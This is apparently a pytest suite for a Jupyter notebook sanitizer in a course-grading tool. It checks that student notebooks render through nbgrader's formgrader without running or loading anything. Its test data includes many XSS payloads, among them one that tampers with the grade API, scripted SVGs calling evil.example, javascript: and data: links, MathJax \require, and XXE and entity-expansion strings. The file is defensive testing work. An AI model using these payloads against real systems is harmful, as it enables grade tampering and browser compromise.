"""Intake's cleaning: whatever a student puts in a notebook, the page made of it runs nothing and loads nothing.

Each attack is cleaned, then the notebook is rendered the way the formgrader renders it (nbconvert's classic page
with the sanitizer off: the formgrader's own setting for markdown) and the page is read back with an HTML parser:
no element but the template's own scripts, no event handler, no link or source to javascript:, data: (other than
an image) or another site. Cleaning is idempotent, the words stay readable, and the instructor's own cells stay.
"""
from __future__ import annotations

import base64
import copy
import json
import re

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbconvert.filters.markdown import markdown2html

from labsupport.grading.clean import (JOINER, MAX_OUTPUT, MAX_TEXT, clean_bundle, clean_notebook, clean_outputs,
                                      clean_svg, course_texts, neutral_markdown)
from tests.grading.pages import dangers, template_risks

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 32).decode()
SCRIPTED_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
                'onload="window.owned=1"><script>window.owned=2</script><rect width="10" height="10" fill="red" '
                'onclick="alert(1)"/><a xlink:href="javascript:alert(3)"><text x="1" y="9">click</text></a>'
                '<foreignObject><iframe src="javascript:alert(4)"/></foreignObject>'
                '<set attributeName="onmouseover" to="alert(5)"/><animate attributeName="href" to="javascript:x"/>'
                '<image href="http://evil.example/beacon.png"/><rect fill="url(http://evil.example/x#y)"/>'
                '<rect style="fill:url(http://evil.example/z)"/><use href="http://evil.example/s.svg#a"/></svg>')

#: Markdown a student writes in a written answer (or a cell they add), each meant to run or load something.
MARKDOWN = {
    "img-onerror": "My answer <img src=x onerror=\"fetch('/formgrader/api/grade/1',{method:'PUT'})\">",
    "script": "<script>window.owned = 1</script>",
    "close-context": "</div></div></div><script>window.owned=1</script><div>",
    "svg-inline": "<svg onload=\"window.owned=1\"><circle r=\"5\" /></svg>",
    "iframe": "<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe>",
    "style-exfil": "<style>@import url(http://evil.example/x.css)</style>",
    "meta-refresh": "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "base": "<base href=\"http://evil.example/\">",
    "form": "<form action=\"http://evil.example\"><button>Full credit</button></form>",
    "javascript-link": "[full marks](javascript:window.owned=1)",
    "entity-javascript-link": "[x](&#106;avascript:window.owned=1)",
    "tab-javascript-link": "[x](java\tscript:window.owned=1)",
    "reference-link": "[click me][r]\n\n[r]: javascript:window.owned=1",
    "autolink": "<javascript:window.owned=1>",
    "data-link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "beacon-image": "![x](http://evil.example/beacon.png)",
    "missing-attachment": "![x](attachment:nothing.png)",
    "mathjax-href": "$\\href{javascript:window.owned=1}{\\text{click}}$",
    "mathjax-require": "$\\require{http://evil.example/x.js}$",
    "code-span": "`<img src=x onerror=window.owned=1>`",
    "html-in-table": "| a | b |\n|---|---|\n| <img src=\"x\" onerror=\"window.owned=1\"> | 2 |",
    "comment": "<!-- --><img src=\"x\" onerror=\"window.owned=1\"><!-- -->",
    "uppercase": "<IMG SRC=\"x\" ONERROR=\"window.owned=1\">",
    "processing": "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?>",
    "cdata": "<![CDATA[<img src=x onerror=window.owned=1>]]>",
}

#: Attacks this page's renderer (mistune) does not take for markup, that other renderers (JupyterLab's) may.
NOT_ON_THIS_RENDERER = ("code-span", "entity-javascript-link", "tab-javascript-link", "cdata", "processing",
                        "data-image")
def notebook(*cells) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.cells = list(cells)
    return nb


def rendered(nb) -> str:
    """The page as the formgrader makes it: nbconvert's classic template, markdown not sanitized."""
    page, _ = HTMLExporter(template_name="classic", sanitize_html=False).from_notebook_node(nb)
    return page


@pytest.fixture(scope="module")
def baseline() -> list[str]:
    return template_risks()


@pytest.mark.parametrize("name", sorted(MARKDOWN))
def test_a_students_markdown_runs_and_loads_nothing(name, baseline):
    text = MARKDOWN[name]
    before = notebook(nbformat.v4.new_markdown_cell(text))
    try:
        raw = dangers(rendered(copy.deepcopy(before)), baseline)
    except Exception as e:             # a page that cannot be made at all: the formgrader's 500 for this student
        raw = [repr(e)]
    # the attacks the page's own elements cannot show: MathJax's, and those only some renderers take for markup
    assert raw or name in NOT_ON_THIS_RENDERER or name.startswith("mathjax"), "the attack is no attack here"
    clean_notebook(before)
    cleaned = before.cells[0].source
    assert not dangers(rendered(before), baseline), cleaned
    assert not re.search(r"\\(href|require)\b", cleaned)
    assert clean_notebook(copy.deepcopy(before)) == [] or neutral_markdown(cleaned) == cleaned
    # the words are all there, for the grader to read
    visible = cleaned.replace(JOINER, "")
    assert re.sub(r"\s", "", visible) == re.sub(r"\s", "", text), (text, visible)


def test_a_written_answer_is_text_in_every_renderer():
    """The cleaned answer is text whether or not a renderer takes part of it for code: a word joiner after `<`
    opens no tag anywhere, and shows nothing."""
    cleaned = neutral_markdown("`<b>` and <b>bold</b> and ``<i>``")
    html = markdown2html(cleaned)
    assert "<b>" not in html and "<i>" not in html
    assert html.count(JOINER) == 4


def test_bidirectional_controls_are_shown_and_controls_dropped():
    cleaned = neutral_markdown("answer: \u202egnp.exe\u202c ok\x00\x07")
    assert "\u202e" not in cleaned and "[U+202E]" in cleaned and "[U+202C]" in cleaned
    assert "\x00" not in cleaned and "\x07" not in cleaned


def test_a_huge_single_line_is_cut_and_says_so():
    cleaned = neutral_markdown("x" * (10 * MAX_TEXT))
    assert len(cleaned) <= MAX_TEXT and "more characters" in cleaned
    assert neutral_markdown(cleaned) == cleaned


def test_an_image_of_the_cells_own_attachment_stays():
    nb = notebook(nbformat.v4.new_markdown_cell("![diagram](attachment:d.png) ![x](attachment:gone.png)"))
    nb.cells[0]["attachments"] = {"d.png": {"image/png": PNG},
                                  "evil.svg": {"image/svg+xml": SCRIPTED_SVG, "text/html": "<script>x</script>"},
                                  "../../x": {"image/png": PNG},
                                  "fake.png": {"image/png": base64.b64encode(b"<script>x</script>").decode()}}
    clean_notebook(nb)
    cell = nb.cells[0]
    assert set(cell.attachments) == {"d.png", "evil.svg"}
    assert set(cell.attachments["evil.svg"]) == {"image/svg+xml"}
    assert "script" not in cell.attachments["evil.svg"]["image/svg+xml"]
    assert "](attachment:d.png)" in cell.source and "]" + JOINER + "(attachment:gone.png)" in cell.source
    page = rendered(nb)
    assert "data:image/png;base64," in page


@pytest.mark.parametrize("attack", ["script", "onload", "onclick", "javascript", "foreignObject", "iframe", "<set",
                                    "animate", "evil.example", "<image", "<use", "<a "])
def test_an_svg_keeps_its_drawing_and_nothing_active(attack):
    cleaned = clean_svg(SCRIPTED_SVG)
    assert cleaned is not None and "<rect" in cleaned and "click" not in cleaned.replace("onclick", "")
    assert attack not in cleaned, cleaned


@pytest.mark.parametrize("text", [
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg>&b;</svg>',
    '<svg><!ENTITY x SYSTEM "file:///etc/passwd"></svg>',
    '<html><script>alert(1)</script></html>',
    "<svg>" * 5000 + "</svg>" * 5000,
    "not xml at all",
])
def test_entities_documents_and_deep_drawings_are_no_drawing(text):
    cleaned = clean_svg(text)
    assert cleaned is None or (cleaned.count("<svg") <= 41 and "ENTITY" not in cleaned)


def test_outputs_keep_text_tables_and_pictures_and_nothing_that_runs(baseline):
    cell = nbformat.v4.new_code_cell("x")
    cell.outputs = [
        nbformat.v4.new_output("display_data", {"application/javascript": "window.owned=1",
                                                "text/plain": "js"}),
        nbformat.v4.new_output("display_data", {
            "text/html": "<div class='labsupport-task' style='border:1px solid'><b>Your task</b><table><tr><th>name"
                         "</th><td><code>task.port</code></td></tr></table><script>window.owned=1</script>"
                         "<img src=x onerror=window.owned=1></div>"}),
        nbformat.v4.new_output("display_data", {"text/html": f"<div class='cluster'>{SCRIPTED_SVG}</div>",
                                                "text/plain": "<ClusterGraph>"}),
        nbformat.v4.new_output("display_data", {"text/markdown": "<img src=x onerror=window.owned=1>"}),
        nbformat.v4.new_output("display_data", {"text/latex": "$\\href{javascript:x}{y}$"}),
        nbformat.v4.new_output("display_data", {"image/png": base64.b64encode(b"<html>").decode()}),
        nbformat.v4.new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "x"},
                                                "text/plain": "widget"}),
        nbformat.v4.new_output("display_data", {"image/svg+xml": SCRIPTED_SVG},
                               metadata={"isolated": True, "image/svg+xml": {"width": 5, "onload": "x"}}),
        nbformat.v4.new_output("stream", name="stdout", text="plain <b>text</b>\n"),
    ]
    raw = copy.deepcopy(cell)
    assert dangers(rendered(notebook(raw)), baseline)
    nb = notebook(cell)
    clean_notebook(nb)
    page = rendered(nb)
    assert not dangers(page, baseline)
    outputs = nb.cells[0].outputs
    kinds = [sorted(o.get("data", {"stream": 1})) for o in outputs]
    assert ["text/plain"] in kinds                                      # javascript and widget views: text only
    table = next(o["data"]["text/html"] for o in outputs if "text/html" in o.get("data", {}))
    assert "<tr><th>name</th><td><code>task.port</code></td></tr>" in table and "<table>" in table
    assert "style" not in table and "class" not in table and "<script" not in table and "<img" not in table
    pictures = [o["data"]["image/svg+xml"] for o in outputs if "image/svg+xml" in o.get("data", {})]
    assert len(pictures) == 2 and all("<rect" in p and "script" not in p for p in pictures)
    assert all("isolated" not in o.get("metadata", {}) for o in outputs)
    assert outputs[-1]["text"] == "plain <b>text</b>\n"            # a stream is text, shown escaped


def test_an_output_larger_than_the_cap_is_cut():
    """A 16 MiB output (a flood, or a zip-bomb of many outputs) keeps at most the output cap in all."""
    notes: list[str] = []
    flood = [{"output_type": "stream", "name": "stdout", "text": "x" * (16 * 2**20)}]
    many = [{"output_type": "display_data", "data": {"text/plain": "y" * 100_000}, "metadata": {}}
            for _ in range(200)]
    for outputs in (flood, many):
        kept = clean_outputs(outputs, notes)
        size = sum(len(o.get("text", "")) + sum(len(v) for v in o.get("data", {}).values()) for o in kept)
        assert size <= MAX_OUTPUT + 200, size


def test_deeply_nested_json_output_is_dropped():
    nested: object = 1
    for _ in range(5000):
        nested = [nested]
    notes: list[str] = []
    assert clean_bundle({"application/json": nested, "text/plain": "deep"}, notes) == {"text/plain": "deep"}


def test_metadata_keeps_what_nbgrader_needs_and_nothing_a_template_could_print():
    cell = nbformat.v4.new_markdown_cell("answer")
    cell.metadata = {"nbgrader": {"grade_id": "q1-text", "solution": True, "grade": True, "points": 2,
                                  "schema_version": 3, "locked": False, "evil": "<script>"},
                     "tags": ["ok", "x\" onmouseover=\"alert(1)"], "trusted": True,
                     "jupyter": {"source_hidden": True, "x": "<b>"}, "attachments": "x"}
    added = nbformat.v4.new_markdown_cell("mine")
    added.metadata = {"nbgrader": {"grade_id": "<img src=x onerror=alert(1)>", "locked": True, "solution": False}}
    nb = notebook(cell, added)
    nb.cells[0]["id"] = "bad id with spaces <b>"
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": "</script><script>alert(1)"}}
    nb.metadata["title"] = "<script>alert(1)</script>"
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "<img src=x>", "language": "python"}
    notes = clean_notebook(nb)
    assert nb.cells[0].metadata == {"nbgrader": {"grade_id": "q1-text", "solution": True, "grade": True,
                                                 "points": 2, "schema_version": 3, "locked": False},
                                    "tags": ["ok"], "jupyter": {"source_hidden": True}}
    assert nb.cells[1].metadata == {}                  # a markup grade id: not a graded cell at all
    assert re.fullmatch(r"[A-Za-z0-9_-]{1,64}", nb.cells[0]["id"]) and nb.cells[0]["id"] != nb.cells[1]["id"]
    assert nb.metadata == {"kernelspec": {"name": "python3", "display_name": "python3", "language": "python"}}
    assert any("widgets" in note for note in notes)
    nbformat.validate(nb)


def test_the_instructors_own_cells_stay_and_a_raw_cell_is_text(baseline):
    source = notebook(nbformat.v4.new_markdown_cell("Read [the docs](https://kubernetes.io/docs/) and this:\n\n"
                                                    "<table><tr><th>port</th></tr></table>"),
                      nbformat.v4.new_markdown_cell("### BEGIN SOLUTION\nmodel answer\n### END SOLUTION"))
    source.cells[1].metadata = {"nbgrader": {"solution": True, "grade": True, "grade_id": "q"}}
    course = course_texts(json.loads(nbformat.writes(source)))
    assert len(course) == 1                                 # the model answer is not the instructor's text to keep
    raw = nbformat.v4.new_raw_cell("<script>window.owned=1</script>", metadata={"raw_mimetype": "text/html"})
    nb = notebook(copy.deepcopy(source.cells[0]), nbformat.v4.new_markdown_cell(source.cells[0].source + " <b>"),
                  raw)
    clean_notebook(nb, course)
    assert nb.cells[0].source == source.cells[0].source
    assert "<table>" not in nb.cells[1].source and "[the docs]" + JOINER in nb.cells[1].source
    assert nb.cells[2].metadata == {} and nb.cells[2].source.startswith("<" + JOINER)
    assert not dangers(rendered(notebook(nb.cells[1], nb.cells[2])), baseline)


def test_cleaning_twice_changes_nothing():
    cells = [nbformat.v4.new_markdown_cell(text) for text in MARKDOWN.values()]
    nb = notebook(*cells)
    clean_notebook(nb)
    once = json.dumps(nb, sort_keys=True)
    assert clean_notebook(nb) == []
    assert json.dumps(nb, sort_keys=True) == once


def test_a_cell_claiming_a_grade_id_the_course_lacks_becomes_an_ordinary_cell():
    """A cell the student added with nbgrader fields of its own (locked, an id the course does not have) would make
    nbgrader refuse the whole notebook, or pass for the instructor's: it is an ordinary cell, cleaned as the
    student's."""
    from labsupport.grading.intake import clean_against_source
    source = notebook(nbformat.v4.new_markdown_cell("Question 1"), nbformat.v4.new_markdown_cell("### BEGIN SOLUTION"))
    source.cells[1].metadata = {"nbgrader": {"grade_id": "q1", "solution": True, "grade": True, "points": 1,
                                             "locked": False, "schema_version": 3}}
    handed_in = notebook(nbformat.v4.new_markdown_cell("Question 1"), nbformat.v4.new_markdown_cell("my answer"),
                         nbformat.v4.new_markdown_cell("<img src=x onerror=alert(1)>"))
    handed_in.cells[1].metadata = copy.deepcopy(source.cells[1].metadata)
    handed_in.cells[2].metadata = {"nbgrader": {"grade_id": "mine", "locked": True, "solution": False,
                                                "grade": False, "schema_version": 3}}
    clean_against_source(handed_in, json.loads(nbformat.writes(source)))
    assert handed_in.cells[0].source == "Question 1"
    assert handed_in.cells[1].metadata["nbgrader"]["grade_id"] == "q1"
    assert handed_in.cells[2].metadata == {} and handed_in.cells[2].source.startswith("<" + JOINER)
